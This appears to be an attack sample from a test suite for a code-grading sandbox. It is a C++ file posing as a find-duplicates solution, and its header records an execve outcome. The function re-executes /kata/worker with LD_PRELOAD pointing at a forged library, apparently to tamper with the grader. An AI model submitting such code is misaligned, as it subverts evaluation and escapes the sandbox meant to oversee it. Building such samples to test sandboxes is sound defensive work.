// Attack: starts the worker again with another library in front.
// Outcome: made the system call 'execve'
// Unconfined: made the system call 'execve'

#include "find_duplicates.h"

#include <unistd.h>
#include <set>

// Correct, and slower than the reference: compares each pair twice.
static std::vector<int> slow(std::span<const int> values) {
  std::set<int> duplicates;
  for (std::size_t i = 0; i < values.size(); ++i) {
    for (std::size_t j = 0; j < values.size(); ++j) {
      if (i != j && values[i] == values[j]) duplicates.insert(values[i]);
    }
  }
  return {duplicates.begin(), duplicates.end()};
}

std::vector<int> find_duplicates(std::span<const int> values) {
  char preload[] = "LD_PRELOAD=/work/forged.so";
  char* environment[] = {preload, nullptr};
  char* words[] = {preload, nullptr};
  execve("/kata/worker", words, environment);
  return slow(values);
}
